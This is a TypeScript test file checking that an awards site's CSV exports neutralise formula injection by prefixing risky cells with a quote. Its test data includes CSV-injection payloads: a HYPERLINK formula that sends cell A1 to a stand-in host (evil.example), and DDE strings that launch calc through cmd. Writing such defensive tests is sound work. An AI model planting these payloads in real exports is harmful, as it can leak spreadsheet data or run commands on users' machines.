/** CSV downloads cannot poison a spreadsheet (issue 12.6): formula-like text gets a leading `'`. */
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { parse as parseYaml } from 'yaml';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsvText } from '../../src/lib/csv.ts';
import { importDecision } from '../../src/importer/import.ts';
import { toCsv, toJson, type OpenDataRecord } from '../../src/lib/open-data.ts';
import { FIXTURE_CONTENT, ROOT } from '../support/paths.ts';

const record = (over: Partial<OpenDataRecord>): OpenDataRecord => ({
  id: 'x',
  recipient: 'Nguyễn Văn An',
  kind: 'person',
  position: '',
  unitId: 'u',
  unitName: 'Văn phòng Sở',
  award: 'Giấy khen',
  authority: 'Giám đốc Sở',
  decisionNumber: '45/QĐ-SKHĐT',
  decisionDate: '2023-12-28',
  year: 2023,
  campaignId: '',
  campaignTitle: '',
  contentIds: [],
  contentTitles: [],
  summary: 'Hoàn thành xuất sắc nhiệm vụ.',
  url: 'https://example.org/thanh-tich/x/',
  sample: false,
  ...over,
});

/** Cells of the first data row of a CSV text, as a spreadsheet import reads them. */
const firstRow = (csv: string): Record<string, string> =>
  (parse(csv.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[])[0]!;

describe('CSV formula neutralisation', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`],
    ['+84 277 385 1234', "'+84 277 385 1234"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('%j is written as %j', (text, expected) => {
    expect(neutraliseFormula(text)).toBe(expected);
  });

  it.each(['Nguyễn Văn An', '45/QĐ-SKHĐT', "'đã có dấu nháy", ' =không phải công thức', '', 'Tổ 1 - Phòng A'])(
    '%j is left as written',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );

  it('numbers and booleans are not text and stay as they are', () => {
    expect(toCsvText([[-5, true, null, '-5']])).toBe("\uFEFF-5,true,,'-5\r\n");
  });

  it('the header row and the semicolon template are neutralised too', () => {
    expect(toCsvText([], { header: ['=A1', 'Họ tên'], delimiter: ';' })).toBe("\uFEFF'=A1;Họ tên\r\n");
  });

  it('open data: the CSV neutralises every formula-like text field, the JSON keeps it as written', () => {
    const hostile = record({
      recipient: '=HYPERLINK("http://evil.example","Bấm")',
      position: '+Trưởng phòng',
      summary: '@cmd',
      contentTitles: ['-Nội dung 1', 'Nội dung 2'],
      unitName: '\tPhòng',
    });
    const row = firstRow(toCsv([hostile]));
    expect(row['recipient']).toBe(`'=HYPERLINK("http://evil.example","Bấm")`);
    expect(row['position']).toBe("'+Trưởng phòng");
    expect(row['summary']).toBe("'@cmd");
    expect(row['contentTitles']).toBe("'-Nội dung 1; Nội dung 2");
    expect(row['unitName']).toBe("'\tPhòng");
    expect(row['year']).toBe('2023');
    const json = JSON.parse(toJson([hostile], { title: 't', publisher: 'p', documentation: 'd' })) as {
      records: Record<string, unknown>[];
    };
    expect(json.records[0]!['recipient']).toBe('=HYPERLINK("http://evil.example","Bấm")');
    expect(json.records[0]!['contentTitles']).toEqual(['-Nội dung 1', 'Nội dung 2']);
  });

  it('from an import: the spreadsheet text is kept in the entry as written, and neutralised in the CSV', async () => {
    const content = await mkdtemp(join(tmpdir(), 'thidua-csv-import-'));
    try {
      await cp(join(FIXTURE_CONTENT, 'units'), join(content, 'units'), { recursive: true });
      await cp(join(FIXTURE_CONTENT, 'campaigns'), join(content, 'campaigns'), { recursive: true });
      const sheet = (await readFile(join(ROOT, 'test/fixtures/import/valid-decision.csv'), 'utf8'))
        .replace('1;Phòng Tổng hợp, Quy hoạch;', '1;"=HYPERLINK(""http://evil.example"",""Bấm"")";')
        .replace('Tham mưu kịp thời kế hoạch đầu tư công năm 2022 của Tỉnh.', '@SUM(1+1)');
      await writeFile(join(content, 'quyet-dinh.csv'), sheet);
      const result = await importDecision({ file: join(content, 'quyet-dinh.csv'), contentDir: content });
      expect(result.errors).toEqual([]);
      const file = join(content, 'achievements', 'hyperlink-http-evil-example-bam-210-qd-skhdt-2022.mdx');
      const data = parseYaml((await readFile(file, 'utf8')).split('---')[1]!) as { recipient: string; summary: string };
      expect(data).toMatchObject({ recipient: '=HYPERLINK("http://evil.example","Bấm")', summary: '@SUM(1+1)' });
      const row = firstRow(toCsv([record({ recipient: data.recipient, summary: data.summary })]));
      expect(row['recipient']).toBe(`'=HYPERLINK("http://evil.example","Bấm")`);
      expect(row['summary']).toBe("'@SUM(1+1)");
    } finally {
      await rm(content, { recursive: true, force: true });
    }
  });
});
